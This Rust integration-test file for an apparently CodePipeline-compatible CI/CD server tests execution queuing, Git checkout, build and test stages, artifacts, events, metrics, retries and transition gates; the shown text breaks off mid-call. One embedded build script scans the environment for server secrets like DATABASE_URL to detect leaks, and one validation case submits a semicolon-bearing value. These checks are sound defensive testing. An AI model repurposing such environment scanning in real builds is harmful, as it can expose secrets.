//! Executions through the API: started executions are stored with their first actions' jobs
//! queued, gates hold and supersede executions, and stop-and-abandon cancels the jobs. (Workers,
//! which end actions, come with the worker pool.)

use serde_json::{Value, json};
use sqlx::{Connection, PgConnection};

use crate::harness::{TestApp, admin_api, api_call as call, api_ok as ok};
use crate::pipelines::web_app;

pub async fn start(app: &TestApp, t: &str, name: &str) -> String {
    ok(app, t, "StartPipelineExecution", json!({"name": name})).await["pipelineExecutionId"]
        .as_str()
        .unwrap()
        .to_string()
}

/// The one execution a pipeline has (the one CreatePipeline started).
pub async fn first_execution(app: &TestApp, t: &str, name: &str) -> String {
    let listed = ok(
        app,
        t,
        "ListPipelineExecutions",
        json!({"pipelineName": name}),
    )
    .await;
    let all = listed["pipelineExecutionSummaries"].as_array().unwrap();
    assert_eq!(all.len(), 1, "{listed}");
    all[0]["pipelineExecutionId"].as_str().unwrap().to_string()
}

async fn execution(app: &TestApp, t: &str, name: &str, id: &str) -> Value {
    ok(
        app,
        t,
        "GetPipelineExecution",
        json!({"pipelineName": name, "pipelineExecutionId": id}),
    )
    .await["pipelineExecution"]
        .clone()
}

async fn rows(app: &TestApp, sql: &'static str) -> Vec<(String, i64)> {
    let mut c = PgConnection::connect_with(&app.db.options).await.unwrap();
    sqlx::query_as(sql).fetch_all(&mut c).await.unwrap()
}

#[tokio::test]
async fn a_started_execution_queues_its_source_actions_and_a_newer_one_supersedes_the_waiting() {
    let (app, t) = admin_api().await;
    let mut decl = web_app("runner");
    decl["executionMode"] = json!("SUPERSEDED");
    ok(&app, &t, "CreatePipeline", json!({"pipeline": decl})).await;
    // CreatePipeline started the first execution, as in CodePipeline.
    let first = first_execution(&app, &t, "runner").await;
    let got = execution(&app, &t, "runner", &first).await;
    assert_eq!(got["status"], "InProgress");
    assert_eq!(got["pipelineVersion"], 1);
    assert_eq!(got["trigger"]["triggerType"], "CreatePipeline");
    assert_eq!(
        got["trigger"]["triggerDetail"],
        "arn:sluice:iam:::user/admin"
    );
    assert_eq!(
        got["variables"],
        json!([{"name": "DeployEnv", "resolvedValue": "prod"}])
    );
    assert_eq!(
        rows(&app, "SELECT state, count(*) FROM jobs GROUP BY state").await,
        [("available".to_string(), 1)],
        "the source action's job"
    );
    // The source stage is locked: the second waits, the third supersedes it.
    let second = start(&app, &t, "runner").await;
    let third = start(&app, &t, "runner").await;
    assert_eq!(
        execution(&app, &t, "runner", &second).await["status"],
        "Superseded"
    );
    assert_eq!(
        execution(&app, &t, "runner", &third).await["status"],
        "InProgress"
    );
    assert_eq!(
        rows(&app, "SELECT state, count(*) FROM jobs GROUP BY state")
            .await
            .len(),
        1
    );

    // Stop and abandon: the running action is abandoned, its job cancelled, the waiting third
    // enters the freed stage and gets its own job.
    let stopped = ok(
        &app,
        &t,
        "StopPipelineExecution",
        json!({"pipelineName": "runner", "pipelineExecutionId": first, "abandon": true, "reason": "wrong branch"}),
    )
    .await;
    assert_eq!(stopped["pipelineExecutionId"], first.as_str());
    assert_eq!(
        execution(&app, &t, "runner", &first).await["status"],
        "Stopped"
    );
    assert_eq!(
        rows(
            &app,
            "SELECT state, count(*) FROM jobs GROUP BY state ORDER BY state"
        )
        .await,
        [("available".to_string(), 1), ("cancelled".to_string(), 1)]
    );
    assert_eq!(
        rows(
            &app,
            "SELECT status, count(*) FROM action_executions GROUP BY status ORDER BY status"
        )
        .await,
        [("Abandoned".to_string(), 1), ("InProgress".to_string(), 1)]
    );
    let (_, out) = call(
        &app,
        &t,
        "StopPipelineExecution",
        json!({"pipelineName": "runner", "pipelineExecutionId": first}),
    )
    .await;
    assert_eq!(
        out["__type"], "PipelineExecutionNotStoppableException",
        "{out}"
    );
}

#[tokio::test]
async fn bad_starts_and_stops_get_codepipelines_errors() {
    let (app, t) = admin_api().await;
    ok(
        &app,
        &t,
        "CreatePipeline",
        json!({"pipeline": web_app("runner")}),
    )
    .await;
    for (op, body, kind) in [
        (
            "StartPipelineExecution",
            json!({"name": "missing"}),
            "PipelineNotFoundException",
        ),
        (
            "StartPipelineExecution",
            json!({"name": "bad\u{0}name"}),
            "ValidationException",
        ),
        (
            "StartPipelineExecution",
            json!({"name": "runner", "variables": [{"name": "Nope", "value": "x"}]}),
            "ValidationException",
        ),
        (
            "StopPipelineExecution",
            json!({"pipelineName": "runner", "pipelineExecutionId": "not-a-uuid"}),
            "ValidationException",
        ),
        (
            "StopPipelineExecution",
            json!({"pipelineName": "runner", "pipelineExecutionId": uuid::Uuid::new_v4().to_string()}),
            "PipelineExecutionNotFoundException",
        ),
        (
            "GetPipelineExecution",
            json!({"pipelineName": "runner", "pipelineExecutionId": uuid::Uuid::new_v4().to_string()}),
            "PipelineExecutionNotFoundException",
        ),
    ] {
        let (status, out) = call(&app, &t, op, body.clone()).await;
        assert_eq!(
            (status, out["__type"].as_str()),
            (400, Some(kind)),
            "{op} {body}: {out}"
        );
    }
    // An execution of another pipeline is not found under this one's name.
    ok(
        &app,
        &t,
        "CreatePipeline",
        json!({"pipeline": web_app("other")}),
    )
    .await;
    let id = start(&app, &t, "other").await;
    let (_, out) = call(
        &app,
        &t,
        "GetPipelineExecution",
        json!({"pipelineName": "runner", "pipelineExecutionId": id}),
    )
    .await;
    assert_eq!(out["__type"], "PipelineExecutionNotFoundException");
}

#[tokio::test]
async fn racing_starts_each_get_one_execution_and_the_runs_stay_consistent() {
    let (app, t) = admin_api().await;
    let mut decl = web_app("busy");
    decl["executionMode"] = json!("QUEUED");
    ok(&app, &t, "CreatePipeline", json!({"pipeline": decl})).await;
    let ids = futures_util::future::join_all((0..20).map(|_| start(&app, &t, "busy"))).await;
    let unique: std::collections::HashSet<&String> = ids.iter().collect();
    assert_eq!(unique.len(), 20);
    // QUEUED: CreatePipeline's execution in the source stage, the twenty waiting in order, no
    // job beyond the first's.
    assert_eq!(
        rows(
            &app,
            "SELECT place, count(*) FROM pipeline_executions GROUP BY place ORDER BY place"
        )
        .await,
        [("in".to_string(), 1), ("waiting".to_string(), 20)]
    );
    assert_eq!(
        rows(&app, "SELECT state, count(*) FROM jobs GROUP BY state").await,
        [("available".to_string(), 1)]
    );
    let seqs: Vec<(String, i64)> = rows(
        &app,
        "SELECT 'seq', count(DISTINCT seq) FROM pipeline_executions",
    )
    .await;
    assert_eq!(seqs[0].1, 21, "every execution has its own sequence number");
}

/// A `Source` stage with one Git action, `Checkout`, of `main` into the artifact `Src`.
pub fn source_stage(repository: &str) -> Value {
    json!({"name": "Source", "actions": [{"name": "Checkout",
        "actionTypeId": {"category": "Source", "owner": "Sluice", "provider": "Git", "version": "1"},
        "configuration": {"RepositoryUrl": repository, "Branch": "main"},
        "outputArtifacts": [{"name": "Src"}]}]})
}

/// Runs `git` in `dir` (no global configuration); its trimmed output.
pub fn git(dir: &std::path::Path, args: &[&str]) -> String {
    let out = std::process::Command::new("git")
        .args(args)
        .current_dir(dir)
        .env("GIT_CONFIG_GLOBAL", "/dev/null")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "git {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    String::from_utf8_lossy(&out.stdout).trim().to_string()
}

/// A Git repository on disk with one commit on `main`; its path and the commit id.
pub fn repository(dir: &std::path::Path) -> (String, String) {
    // Readable by the unprivileged user builds run as when the tests run as root.
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    let run = |args: &[&str]| git(dir, args);
    run(&["-c", "init.defaultBranch=main", "init", "--quiet"]);
    std::fs::write(dir.join("app.txt"), "plaintext-marker-4711\n").unwrap();
    std::fs::create_dir_all(dir.join("src")).unwrap();
    std::fs::write(dir.join("src/main.sh"), "echo hi\n").unwrap();
    run(&["add", "."]);
    run(&[
        "-c",
        "user.name=Ada Lovelace",
        "-c",
        "user.email=ada@example.com",
        "commit",
        "--quiet",
        "-m",
        "First commit\n\nWith a body.",
    ]);
    (dir.display().to_string(), run(&["rev-parse", "HEAD"]))
}

#[tokio::test]
async fn a_git_source_checks_out_the_branch_head_into_a_sealed_artifact() {
    let (app, t) = workers_app().await;
    let repo = tempfile::tempdir().unwrap();
    let (path, commit) = repository(repo.path());
    let mut decl = web_app("cloned");
    decl["stages"][0]["actions"][0]["configuration"] =
        json!({"RepositoryUrl": path, "Branch": "main"});
    ok(&app, &t, "CreatePipeline", json!({"pipeline": decl})).await;
    let id = first_execution(&app, &t, "cloned").await;
    let status = wait_for_end(&app, &t, "cloned", &id).await["status"].clone();
    // The repository has no buildspec.yml, so the build that follows fails, after the source
    // succeeded.
    assert_eq!(status, "Failed");
    let mut c = PgConnection::connect_with(&app.db.options).await.unwrap();
    let (status, summary, variables, artifacts): (String, Option<String>, Value, Value) = sqlx::query_as(
        "SELECT status, summary, output_variables, output_artifacts FROM action_executions WHERE stage_index = 0",
    )
    .fetch_one(&mut c)
    .await
    .unwrap();
    assert_eq!(status, "Succeeded", "{summary:?}");
    assert_eq!(variables["CommitId"], commit.as_str());
    assert_eq!(variables["BranchName"], "main");
    assert_eq!(variables["AuthorName"], "Ada Lovelace");
    assert_eq!(variables["CommitMessage"], "First commit\n\nWith a body.");
    assert_eq!(variables["RepositoryUrl"], path.as_str());
    let address = artifacts["SourceArtifact"]["address"]
        .as_str()
        .unwrap()
        .to_string();
    let stored = crate::harness::artifact_dir()
        .join("sha256")
        .join(&address[..2])
        .join(&address[2..]);
    let at_rest = std::fs::read(&stored).unwrap();
    assert!(
        !at_rest.windows(21).any(|w| w == b"plaintext-marker-4711"),
        "the artifact holds no plaintext"
    );
    let (build_status, build_summary): (String, Option<String>) = sqlx::query_as(
        "SELECT status, summary FROM action_executions WHERE stage_index = 1 ORDER BY action_index LIMIT 1",
    )
    .fetch_one(&mut c)
    .await
    .unwrap();
    assert_eq!(build_status, "Failed");
    let build_summary = build_summary.unwrap();
    assert!(
        build_summary.contains("no buildspec at buildspec.yml"),
        "{build_summary}"
    );

    // A branch that does not exist fails the source with git's reason.
    let mut gone = web_app("gone");
    gone["stages"][0]["actions"][0]["configuration"] =
        json!({"RepositoryUrl": path, "Branch": "nope"});
    ok(&app, &t, "CreatePipeline", json!({"pipeline": gone})).await;
    let id = first_execution(&app, &t, "gone").await;
    wait_for_end(&app, &t, "gone", &id).await;
    let (summary,): (Option<String>,) = sqlx::query_as(
        "SELECT a.summary FROM action_executions a JOIN pipeline_executions e ON e.id = a.execution_id JOIN pipelines p ON p.id = e.pipeline_id WHERE p.name = 'gone'",
    )
    .fetch_one(&mut c)
    .await
    .unwrap();
    let summary = summary.unwrap();
    assert!(
        summary.contains("branch nope") && summary.contains("nope"),
        "{summary}"
    );
}

#[tokio::test]
async fn workers_pick_up_an_action_at_once_and_its_end_moves_the_execution_on() {
    let (app, t) = workers_app().await;
    ok(
        &app,
        &t,
        "CreatePipeline",
        json!({"pipeline": web_app("worked")}),
    )
    .await;
    let id = first_execution(&app, &t, "worked").await;
    // The repository does not exist: the worker fails the source action with git's reason, and
    // the stage and the execution fail, exactly once.
    let status = wait_for_end(&app, &t, "worked", &id).await["status"].clone();
    assert_eq!(status, "Failed");
    let mut c = PgConnection::connect_with(&app.db.options).await.unwrap();
    let (state, error): (String, Option<String>) =
        sqlx::query_as("SELECT state, last_error FROM jobs")
            .fetch_one(&mut c)
            .await
            .unwrap();
    assert_eq!(state, "failed");
    assert!(error.unwrap().contains("git clone of"));
    assert_eq!(
        rows(
            &app,
            "SELECT status, count(*) FROM action_executions GROUP BY status"
        )
        .await,
        [("Failed".to_string(), 1)]
    );
    assert_eq!(
        rows(
            &app,
            "SELECT status, count(*) FROM stage_executions GROUP BY status"
        )
        .await,
        [("Failed".to_string(), 1)]
    );
}

/// A server with two workers, and the administrator's token.
pub async fn workers_app() -> (TestApp, String) {
    let app = crate::harness::spawn_app_with_workers(2).await;
    app.setup_admin().await;
    let t = app
        .console_token_as(&app.client, crate::harness::ADMIN_PASSWORD, &[])
        .await;
    (app, t)
}

pub async fn wait_for_end(app: &TestApp, t: &str, name: &str, id: &str) -> Value {
    for _ in 0..400 {
        let e = execution(app, t, name, id).await;
        if e["status"] != "InProgress" {
            return e;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    panic!("the execution {id} of {name} never ended");
}

pub fn command(
    name: &str,
    category: &str,
    inputs: &[&str],
    output: Option<&str>,
    config: Value,
) -> Value {
    let mut a = json!({
        "name": name,
        "actionTypeId": {"category": category, "owner": "Sluice", "provider": "Command", "version": "1"},
        "inputArtifacts": inputs.iter().map(|i| json!({"name": i})).collect::<Vec<_>>(),
        "configuration": config,
    });
    if let Some(o) = output {
        a["outputArtifacts"] = json!([{"name": o}]);
    }
    a
}

#[tokio::test]
async fn git_then_build_then_test_runs_to_succeeded_with_artifacts_and_variables() {
    let (app, t) = workers_app().await;
    let repo = tempfile::tempdir().unwrap();
    let (path, _) = repository(repo.path());
    let build_spec = "version: 0.2\nenv:\n  exported-variables: [VERSION, RUNNER]\nphases:\n  build:\n    commands:\n      - export RUNNER=$(id -u)\n      - mkdir -p dist\n      - cat app.txt > dist/out.txt\n      - export VERSION=1.2.$(wc -l < app.txt)\n      - if env | grep -q '^CARGO_\\|DATABASE_URL\\|SLUICE_'; then echo the server environment leaked; exit 3; fi\nartifacts:\n  files: ['**/*']\n  base-directory: dist\n";
    let test_spec = "version: 0.2\nphases:\n  build:\n    commands:\n      - test \"$WANT\" = 1.2.1\n      - grep -q plaintext-marker-4711 out.txt\n      - test -f \"$CODEBUILD_SRC_DIR_Src/app.txt\"\n";
    let mut compile = command(
        "Compile",
        "Build",
        &["Src"],
        Some("Bin"),
        json!({"BuildSpec": build_spec}),
    );
    compile["namespace"] = json!("BuildVariables");
    let check = command(
        "Check",
        "Test",
        &["Bin", "Src"],
        None,
        json!({
            "BuildSpec": test_spec,
            "PrimarySource": "Bin",
            "EnvironmentVariables": "[{\"name\": \"WANT\", \"value\": \"#{BuildVariables.VERSION}\"}]"
        }),
    );
    let source = json!({"name": "Checkout", "namespace": "SourceVariables",
        "actionTypeId": {"category": "Source", "owner": "Sluice", "provider": "Git", "version": "1"},
        "configuration": {"RepositoryUrl": path, "Branch": "main"},
        "outputArtifacts": [{"name": "Src"}]});
    let decl = json!({
        "name": "full",
        "stages": [
            {"name": "Source", "actions": [source]},
            {"name": "Build", "actions": [compile]},
            {"name": "Test", "actions": [check]}
        ]
    });
    ok(
        &app,
        &t,
        "CreatePipeline",
        json!({"pipeline": decl.clone()}),
    )
    .await;
    let id = first_execution(&app, &t, "full").await;
    let end = wait_for_end(&app, &t, "full", &id).await;
    let mut c = PgConnection::connect_with(&app.db.options).await.unwrap();
    let attempts: Vec<(i32, String, Option<String>, Option<Value>)> = sqlx::query_as(
        "SELECT stage_index, status, summary, output_variables FROM action_executions ORDER BY stage_index",
    )
    .fetch_all(&mut c)
    .await
    .unwrap();
    assert_eq!(end["status"], "Succeeded", "{attempts:#?}");
    assert_eq!(attempts.len(), 3);
    assert_eq!(
        attempts[1].3.as_ref().unwrap()["VERSION"],
        "1.2.1",
        "exported by the build"
    );

    // Every state change is an event in CodePipeline's EventBridge shape, in order.
    let events: Vec<(String, Value)> =
        sqlx::query_as("SELECT detail_type, detail FROM pipeline_events ORDER BY seq")
            .fetch_all(&mut c)
            .await
            .unwrap();
    let said: Vec<String> = events
        .iter()
        .map(|(t, d)| {
            let what = d["action"]
                .as_str()
                .or(d["stage"].as_str())
                .unwrap_or("pipeline");
            format!(
                "{} {what} {}",
                t.split(' ').nth(1).unwrap(),
                d["state"].as_str().unwrap()
            )
        })
        .collect();
    assert_eq!(
        said,
        [
            "Pipeline pipeline STARTED",
            "Stage Source STARTED",
            "Action Checkout STARTED",
            "Action Checkout SUCCEEDED",
            "Stage Source SUCCEEDED",
            "Stage Build STARTED",
            "Action Compile STARTED",
            "Action Compile SUCCEEDED",
            "Stage Build SUCCEEDED",
            "Stage Test STARTED",
            "Action Check STARTED",
            "Action Check SUCCEEDED",
            "Stage Test SUCCEEDED",
            "Pipeline pipeline SUCCEEDED",
        ]
    );
    let (_, started) = &events[0];
    assert_eq!(started["pipeline"], "full");
    assert_eq!(started["execution-id"], id.as_str());
    assert_eq!(started["version"], 1);
    assert_eq!(
        started["execution-trigger"]["trigger-type"],
        "CreatePipeline"
    );
    assert_eq!(events[6].1["type"]["provider"], "Command");

    // The build's artifact, downloaded through the API and the console: the zip the build made.
    let url = format!("/api/v1/pipelines/full/executions/{id}/artifacts/Bin");
    let res = reqwest::Client::new()
        .get(app.url(&url))
        .bearer_auth(&t)
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200);
    assert_eq!(res.headers()["content-type"], "application/zip");
    assert!(
        res.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains("Bin.zip")
    );
    let bytes = res.bytes().await.unwrap();
    let mut zip = zip::ZipArchive::new(std::io::Cursor::new(bytes.to_vec())).unwrap();
    let mut out = String::new();
    std::io::Read::read_to_string(&mut zip.by_name("out.txt").unwrap(), &mut out).unwrap();
    assert_eq!(out, "plaintext-marker-4711\n");
    let console = app
        .client
        .get(app.url(&format!("/pipelines/full/executions/{id}/artifacts/Bin")))
        .send()
        .await
        .unwrap();
    assert_eq!(console.status(), 200);
    assert_eq!(console.bytes().await.unwrap(), bytes);
    let page = app
        .client
        .get(app.url(&format!("/pipelines/full/executions/{id}")))
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    assert!(page.contains(&format!("/pipelines/full/executions/{id}/artifacts/Bin")));
    let missing = reqwest::Client::new()
        .get(app.url(&format!(
            "/api/v1/pipelines/full/executions/{id}/artifacts/Nope"
        )))
        .bearer_auth(&t)
        .send()
        .await
        .unwrap();
    // The API's errors are CodePipeline's: 400 with the exception's name.
    assert_eq!(missing.status(), 400);
    assert_eq!(
        missing.json::<Value>().await.unwrap()["__type"],
        "ArtifactNotFoundException"
    );
    let anonymous = reqwest::Client::new()
        .get(app.url(&url))
        .send()
        .await
        .unwrap();
    assert_eq!(anonymous.status(), 401);

    // The server's metrics, for a token allowed sluice:GetMetrics (the test server allows no
    // address without one).
    let scrape = |token: Option<String>| {
        let mut req = reqwest::Client::new().get(app.url("/metrics"));
        if let Some(t) = token {
            req = req.bearer_auth(t);
        }
        async move {
            let res = req.send().await.unwrap();
            (res.status().as_u16(), res.text().await.unwrap())
        }
    };
    assert_eq!(scrape(None).await.0, 401);
    let (status, metrics) = scrape(Some(t.clone())).await;
    assert_eq!(status, 200, "{metrics}");
    for wanted in [
        // (Counts are the test process's, shared by every test server in it.)
        "sluice_action_duration_seconds_count{provider=\"Command\",outcome=\"Succeeded\"} ",
        "sluice_action_duration_seconds_count{provider=\"Git\",outcome=\"Succeeded\"} ",
        "sluice_job_claim_latency_seconds_count ",
        "sluice_action_start_latency_seconds_bucket{le=\"+Inf\"} ",
        "sluice_http_request_duration_seconds_count{method=\"POST\",route=\"/api/v1/{operation}\",status=\"2xx\"} ",
        "sluice_jobs{state=\"runnable\"} 0",
        "sluice_jobs{state=\"running\"} 0",
        "sluice_worker_pool_workers{pool=",
        "sluice_database_up 1",
    ] {
        assert!(metrics.contains(wanted), "{wanted} in\n{metrics}");
    }

    // A failing command fails the action, naming the phase and the command.
    let mut failing = decl.clone();
    failing["name"] = json!("failing");
    failing["stages"][1]["actions"][0]["configuration"]["BuildSpec"] = json!(
        "version: 0.2\nphases:\n  build:\n    commands:\n      - echo about to fail\n      - exit 4\n      - echo never\n"
    );
    ok(&app, &t, "CreatePipeline", json!({"pipeline": failing})).await;
    let id = first_execution(&app, &t, "failing").await;
    assert_eq!(
        wait_for_end(&app, &t, "failing", &id).await["status"],
        "Failed"
    );
    let (summary,): (String,) = sqlx::query_as(
        "SELECT a.summary FROM action_executions a JOIN pipeline_executions e ON e.id = a.execution_id \
         JOIN pipelines p ON p.id = e.pipeline_id WHERE p.name = 'failing' AND a.stage_index = 1",
    )
    .fetch_one(&mut c)
    .await
    .unwrap();
    assert!(
        summary.contains("phase build")
            && summary.contains("`exit 4` exited with 4")
            && summary.contains("about to fail")
            && !summary.contains("never"),
        "{summary}"
    );
}

#[tokio::test]
async fn a_failed_stage_is_retried_and_a_disabled_transition_holds_executions_until_enabled() {
    let (app, t) = workers_app().await;
    let repo = tempfile::tempdir().unwrap();
    let (path, _) = repository(repo.path());
    let scratch = tempfile::tempdir().unwrap();
    {
        use std::os::unix::fs::PermissionsExt;
        std::fs::set_permissions(scratch.path(), std::fs::Permissions::from_mode(0o777)).unwrap();
    }
    let marker = scratch.path().join("attempted");
    // Fails the first time it runs, succeeds after.
    let spec = format!(
        "version: 0.2\nphases:\n  build:\n    commands:\n      - if [ -f {m} ]; then echo again; else touch {m}; exit 1; fi\n",
        m = marker.display()
    );
    let decl = json!({"name": "flaky", "stages": [
        source_stage(&path),
        {"name": "Build", "actions": [command("Compile", "Build", &["Src"], None, json!({"BuildSpec": spec}))]}
    ]});
    ok(&app, &t, "CreatePipeline", json!({"pipeline": decl})).await;
    let id = first_execution(&app, &t, "flaky").await;
    assert_eq!(
        wait_for_end(&app, &t, "flaky", &id).await["status"],
        "Failed"
    );
    let listed = ok(
        &app,
        &t,
        "ListPipelineExecutions",
        json!({"pipelineName": "flaky"}),
    )
    .await;
    assert_eq!(
        listed["pipelineExecutionSummaries"][0]["pipelineExecutionId"],
        id.as_str()
    );
    assert_eq!(listed["pipelineExecutionSummaries"][0]["status"], "Failed");

    let state = ok(&app, &t, "GetPipelineState", json!({"name": "flaky"})).await;
    let build = &state["stageStates"][1];
    assert_eq!(build["stageName"], "Build");
    assert_eq!(build["latestExecution"]["pipelineExecutionId"], id.as_str());
    assert_eq!(build["latestExecution"]["status"], "Failed");
    let compile = &build["actionStates"][0]["latestExecution"];
    assert_eq!(compile["status"], "Failed", "{state}");
    assert!(
        compile["errorDetails"]["message"]
            .as_str()
            .unwrap()
            .contains("exited with 1"),
        "{state}"
    );
    assert_eq!(
        state["stageStates"][0]["actionStates"][0]["latestExecution"]["status"],
        "Succeeded"
    );
    assert_eq!(build["inboundTransitionState"]["enabled"], true);

    let retry = json!({"pipelineName": "flaky", "stageName": "Build", "pipelineExecutionId": id, "retryMode": "FAILED_ACTIONS"});
    ok(&app, &t, "RetryStageExecution", retry.clone()).await;
    assert_eq!(
        wait_for_end(&app, &t, "flaky", &id).await["status"],
        "Succeeded"
    );
    let attempts = rows(
        &app,
        "SELECT stage_index::text, count(*) FROM action_executions GROUP BY stage_index ORDER BY stage_index",
    )
    .await;
    assert_eq!(
        attempts,
        [("0".to_string(), 1), ("1".to_string(), 2)],
        "only the failed action ran again"
    );
    let (_, out) = call(&app, &t, "RetryStageExecution", retry).await;
    assert_eq!(out["__type"], "StageNotRetryableException", "{out}");

    // Filtered by a stage that succeeded.
    let in_build = ok(
        &app,
        &t,
        "ListPipelineExecutions",
        json!({"pipelineName": "flaky", "filter": {"succeededInStage": {"stageName": "Build"}}}),
    )
    .await;
    assert_eq!(
        in_build["pipelineExecutionSummaries"]
            .as_array()
            .unwrap()
            .len(),
        1
    );
    let in_nothing = ok(
        &app,
        &t,
        "ListPipelineExecutions",
        json!({"pipelineName": "flaky", "filter": {"succeededInStage": {"stageName": "Deploy"}}}),
    )
    .await;
    assert!(
        in_nothing["pipelineExecutionSummaries"]
            .as_array()
            .unwrap()
            .is_empty()
    );

    // Hold executions in front of Build, then let the newest in.
    ok(
        &app,
        &t,
        "DisableStageTransition",
        json!({"pipelineName": "flaky", "stageName": "Build", "transitionType": "Inbound", "reason": "Release freeze"}),
    )
    .await;
    let held = start(&app, &t, "flaky").await;
    for _ in 0..200 {
        let waiting = rows(&app, "SELECT place, count(*) FROM pipeline_executions WHERE place = 'waiting' GROUP BY place").await;
        if !waiting.is_empty() {
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
    }
    assert_eq!(
        execution(&app, &t, "flaky", &held).await["status"],
        "InProgress"
    );
    assert_eq!(
        rows(
            &app,
            "SELECT place, count(*) FROM pipeline_executions WHERE place = 'waiting' GROUP BY place"
        )
        .await,
        [("waiting".to_string(), 1)]
    );
    let state = ok(&app, &t, "GetPipelineState", json!({"name": "flaky"})).await;
    let build = &state["stageStates"][1];
    assert_eq!(
        build["inboundExecution"]["pipelineExecutionId"],
        held.as_str(),
        "{state}"
    );
    assert_eq!(build["inboundTransitionState"]["enabled"], false);
    assert_eq!(
        build["inboundTransitionState"]["disabledReason"],
        "Release freeze"
    );
    assert_eq!(
        build["inboundTransitionState"]["lastChangedBy"],
        "arn:sluice:iam:::user/admin"
    );
    ok(
        &app,
        &t,
        "EnableStageTransition",
        json!({"pipelineName": "flaky", "stageName": "Source", "transitionType": "Outbound"}),
    )
    .await;
    assert_eq!(
        wait_for_end(&app, &t, "flaky", &held).await["status"],
        "Succeeded"
    );

    for (op, body, kind) in [
        (
            "DisableStageTransition",
            json!({"pipelineName": "flaky", "stageName": "Source", "transitionType": "Inbound", "reason": "x"}),
            "ValidationException",
        ),
        (
            "DisableStageTransition",
            json!({"pipelineName": "flaky", "stageName": "Build", "transitionType": "Outbound", "reason": "x"}),
            "ValidationException",
        ),
        (
            "DisableStageTransition",
            json!({"pipelineName": "flaky", "stageName": "Nope", "transitionType": "Inbound", "reason": "x"}),
            "StageNotFoundException",
        ),
        (
            "DisableStageTransition",
            json!({"pipelineName": "flaky", "stageName": "Build", "transitionType": "Inbound", "reason": "semi;colon"}),
            "ValidationException",
        ),
        (
            "DisableStageTransition",
            json!({"pipelineName": "flaky", "stageName": "Build", "transitionType": "Inbound"}),
            "ValidationException",
        ),
        (
            "RetryStageExecution",
            json!({"pipelineName": "flaky", "stageName": "Build", "pipelineExecutionId": id, "retryMode": "SOME"}),
            "ValidationException",
        ),
        (
            "RetryStageExecution",
            json!({"pipelineName": "flaky", "stageName": "Nope", "pipelineExecutionId": id, "retryMode": "ALL_ACTIONS"}),
            "StageNotFoundException",
        ),
        (
            "ListPipelineExecutions",
            json!({"pipelineName": "flaky", "nextToken": "zz"}),
            "InvalidNextTokenException",
        ),
    ] {
        let (_, out) = call(&app, &t, op, body.clone()).await;
        assert_eq!(out["__type"], kind, "{op} {body}: {out}");
    }
}

/// Adds a commit to `main` of the repository in `dir`; its id.
pub fn commit(dir: &std::path::Path, file: &str, message: &str) -> String {
    let run = |args: &[&str]| {
        let out = std::process::Command::new("git")
            .args(args)
            .current_dir(dir)
            .env("GIT_CONFIG_GLOBAL", "/dev/null")
            .output()
            .unwrap();
        assert!(out.status.success(), "git {args:?}");
        String::from_utf8_lossy(&out.stdout).trim().to_string()
    };
    std::fs::write(dir.join(file), message).unwrap();
    run(&["add", "."]);
    run(&[
        "-c",
        "user.name=Grace Hopper",
        "-c",
        "user.email=grace@example.com",
        "commit",
        "--quiet",
        "-m",
        message,
    ]);
    run(&["rev-parse", "HEAD"])
}

#[tokio::test]
async fn action_logs_attempts_start_tokens_and_pinned_source_revisions() {
    let (app, t) = workers_app().await;
    let repo = tempfile::tempdir().unwrap();
    let (path, first) = repository(repo.path());
    let head = commit(repo.path(), "second.txt", "Second commit");
    let spec = "version: 0.2\nphases:\n  build:\n    commands:\n      - echo hello from the build\n      - echo to stderr >&2\n      - for i in $(seq 1 3000); do echo \"line $i\"; done\n      - printf 'no newline at the end'\n";
    let decl = json!({"name": "logged", "stages": [
        source_stage(&path),
        {"name": "Build", "actions": [command("Compile", "Build", &["Src"], None, json!({"BuildSpec": spec}))]}
    ]});
    ok(&app, &t, "CreatePipeline", json!({"pipeline": decl})).await;
    let created = first_execution(&app, &t, "logged").await;
    assert_eq!(
        wait_for_end(&app, &t, "logged", &created).await["status"],
        "Succeeded"
    );

    // Pinned to the first commit although the branch moved on.
    let pinned = ok(
        &app,
        &t,
        "StartPipelineExecution",
        json!({"name": "logged", "sourceRevisions": [{"actionName": "Checkout", "revisionType": "COMMIT_ID", "revisionValue": first}]}),
    )
    .await["pipelineExecutionId"]
        .as_str()
        .unwrap()
        .to_string();
    assert_eq!(
        wait_for_end(&app, &t, "logged", &pinned).await["status"],
        "Succeeded"
    );
    let listed = ok(
        &app,
        &t,
        "ListPipelineExecutions",
        json!({"pipelineName": "logged"}),
    )
    .await;
    let summaries = listed["pipelineExecutionSummaries"].as_array().unwrap();
    assert_eq!(summaries[0]["pipelineExecutionId"], pinned.as_str());
    assert_eq!(summaries[0]["sourceRevisions"][0]["actionName"], "Checkout");
    assert_eq!(
        summaries[0]["sourceRevisions"][0]["revisionId"],
        first.as_str()
    );
    assert_eq!(
        summaries[0]["sourceRevisions"][0]["revisionSummary"],
        "First commit\n\nWith a body."
    );
    assert_eq!(
        summaries[1]["sourceRevisions"][0]["revisionId"],
        head.as_str()
    );

    // Every attempt of the execution, newest first, with what it ran with and produced.
    let attempts = ok(
        &app,
        &t,
        "ListActionExecutions",
        json!({"pipelineName": "logged", "filter": {"pipelineExecutionId": pinned}}),
    )
    .await;
    let details = attempts["actionExecutionDetails"].as_array().unwrap();
    assert_eq!(details.len(), 2, "{attempts}");
    let build = &details[0];
    let source = &details[1];
    assert_eq!(build["stageName"], "Build");
    assert_eq!(build["actionName"], "Compile");
    assert_eq!(build["status"], "Succeeded");
    assert_eq!(build["input"]["resolvedConfiguration"]["BuildSpec"], spec);
    assert_eq!(build["input"]["inputArtifacts"][0]["name"], "Src");
    assert_eq!(
        source["output"]["outputVariables"]["CommitId"],
        first.as_str()
    );
    assert_eq!(source["output"]["outputArtifacts"][0]["name"], "Src");
    let all = ok(
        &app,
        &t,
        "ListActionExecutions",
        json!({"pipelineName": "logged", "maxResults": 3}),
    )
    .await;
    assert_eq!(all["actionExecutionDetails"].as_array().unwrap().len(), 3);
    let rest = ok(
        &app,
        &t,
        "ListActionExecutions",
